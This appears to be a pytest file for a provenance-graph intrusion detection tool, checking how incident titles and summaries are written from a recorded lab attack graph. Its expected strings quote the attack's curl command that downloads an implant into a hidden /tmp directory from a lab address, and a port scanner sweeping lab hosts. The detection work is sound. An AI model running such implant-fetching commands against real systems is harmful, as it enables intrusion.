"""Tests of incident titles and summaries, written from the real nodlink attack graph (the
implant irqbalance-d4 and the curl that downloaded it)."""

from __future__ import annotations

import functools
from pathlib import Path

from provarmor.graph.builder import GraphBuilder
from provarmor.graph.records import Node, NodeKind
from provarmor.graph.store import MemoryGraphStore
from provarmor.investigation.knowledge import Finding
from provarmor.investigation.summary import summarize, title_of
from provarmor.model.alert import Alert
from provarmor.model.attack import load_attack_table
from provarmor.model.incident import IncidentEdge
from provarmor.sources.base import HostContext, IngestReport
from provarmor.sources.ndjson import read_ndjson

FIXTURE = Path(__file__).resolve().parents[2] / "data" / "lab" / "nodlink-ubuntu-seed1"
CURL = "lGr1O9t9OlhCkMzP"
"""curl [22438], which downloaded the implant."""
IMPLANT = "nUXt0S1qsVBsEXaf"
"""irqbalance-d4 [22435], the implant, started by sh."""
SCANNER = "k1KUsCHaXXawlCTC"
"""python3 scan.py [22461], the attack's port scanner."""
CURL_ORIGIN = (
    "Curl [22438] (curl -s -o /tmp/.portal-6ww3/irqbalance-d4 "
    "http://10.213.0.223:8443/img/ay6i79n), started by irqbalance-d4, is the entry point"
)


@functools.cache
def _store() -> MemoryGraphStore:
    path = FIXTURE / "events.ndjson.gz"
    builder, store = GraphBuilder(), MemoryGraphStore()
    for event in read_ndjson(path, report=IngestReport(source=str(path)), host=HostContext()):
        builder.add(event)
    store.apply(builder.drain(full=True))
    return store


def _neighbourhood(*ids: str) -> tuple[dict[str, Node], list[IncidentEdge]]:
    """The given processes, every node they touch, and those edges."""
    store = _store()
    edges = {e.id: e for n in ids for e in store.out_edges(n) + store.in_edges(n)}
    nodes: dict[str, Node] = {}
    for edge in edges.values():
        for node_id in (edge.src, edge.dst):
            node = store.node(node_id)
            assert node is not None
            nodes[node_id] = node
    flows = [
        IncidentEdge(
            src=e.src,
            dst=e.dst,
            action=e.action,
            first_ts=e.first_ts,
            last_ts=e.last_ts,
            count=e.count,
        )
        for e in edges.values()
    ]
    return nodes, flows


def _alert(title: str, level: str, *, score: float = 0.0, ts: int = 1) -> Alert:
    return Alert(
        id=f"{title}-{ts}",
        rule_id=title,
        rule_title=title,
        level=level,
        score=score,
        first_timestamp=ts,
        last_timestamp=ts,
    )


def test_the_summary_tells_entry_point_changes_contacts_and_tactics() -> None:
    nodes, edges = _neighbourhood(CURL)
    command_and_control = load_attack_table().tactic_ref("TA0011")
    assert command_and_control is not None
    text = summarize(nodes, edges, root=CURL, findings=[], steps=7, tactics=[command_and_control])
    assert text == (
        f"{CURL_ORIGIN}; it changed /tmp/.portal-6ww3/irqbalance-d4; "
        "it contacted 10.213.0.223:8443; "
        "2 processes, 7 steps over 1 tactics: command-and-control."
    )


def test_local_sockets_are_not_listed_as_contacted() -> None:
    nodes, edges = _neighbourhood(CURL)
    assert any(n.label == "/var/run/nscd/socket" for n in nodes.values())
    text = summarize(nodes, edges, root=CURL, findings=[], steps=1, tactics=[])
    assert "nscd" not in text
    assert text.endswith("1 steps over 0 tactics: no known tactic.")


def test_long_commands_and_long_contact_lists_are_cut() -> None:
    nodes, edges = _neighbourhood(SCANNER)
    text = summarize(nodes, edges, root=SCANNER, findings=[], steps=7, tactics=[])
    assert text == (
        "Python3 [22461] (/usr/bin/python3 scan.py 10.213.0.109,10.213.0.120,10.213.0.165,"
        "10.213.0.205,...), started by sh, is the entry point; it contacted 10.213.0.109:21, "
        "10.213.0.109:22, 10.213.0.109:25 and 69 more; "
        "2 processes, 7 steps over 0 tactics: no known tactic."
    )


def test_the_implants_summary_lists_what_it_and_its_download_changed() -> None:
    nodes, edges = _neighbourhood(IMPLANT, CURL)
    text = summarize(nodes, edges, root=IMPLANT, findings=[], steps=7, tactics=[])
    assert text == (
        "Irqbalance-d4 [22435] (/tmp/.portal-6ww3/irqbalance-d4), started by sh, is the entry "
        "point; it changed /dev/null, /tmp/.portal-6ww3/irqbalance-d4; it contacted "
        "10.213.0.223:8443; 10 processes, 7 steps over 0 tactics: no known tactic."
    )


def test_dropped_and_run_findings_are_told_and_an_unknown_root_is_said() -> None:
    nodes, edges = _neighbourhood(CURL)
    dropped = Finding(
        pattern="written-then-executed",
        techniques=("T1105",),
        nodes=(CURL, IMPLANT),
        timestamp=1,
        text="curl wrote /tmp/.portal-6ww3/irqbalance-d4, which then ran",
    )
    other = Finding(pattern="credential-read", techniques=(), nodes=(CURL,), timestamp=2, text="x")
    text = summarize(nodes, edges, root="gone", findings=[dropped, other], steps=2, tactics=[])
    assert text.startswith(
        "The entry point is unknown; curl wrote /tmp/.portal-6ww3/irqbalance-d4, which then ran;"
    )
    assert "; x;" not in text


def test_a_root_whose_program_is_unknown_is_said_so_not_named_by_its_pid() -> None:
    root = Node(id="r", kind=NodeKind.PROCESS, host="h", first_ts=1, last_ts=1, pid=17702)
    root.label = "pid 17702"  # what the graph knows of a process whose exec it never saw
    text = summarize({"r": root}, [], root="r", findings=[], steps=1, tactics=[])
    assert text.startswith("The attack entered through a process whose program is unknown")
    assert "(pid 17702)" in text
    assert "through pid 17702" not in text


def test_the_title_names_the_strongest_signal_the_others_and_the_root() -> None:
    nodes, _ = _neighbourhood(CURL)
    alerts = [
        _alert("Download to tmp", "medium", score=9.0),
        _alert("Executable in hidden dir", "high", ts=5),
        _alert("Executable in hidden dir, earlier", "high", ts=2),
        _alert("Odd", "unrated-level"),
    ]
    assert title_of(nodes, alerts, root=CURL) == (
        "Executable in hidden dir, earlier (+3 signals) from curl"
    )
    assert title_of(nodes, alerts[:1], root=CURL) == "Download to tmp from curl"


def test_a_title_without_signals_or_known_root_is_generic() -> None:
    assert title_of({}, [], root="gone") == "Related activity"
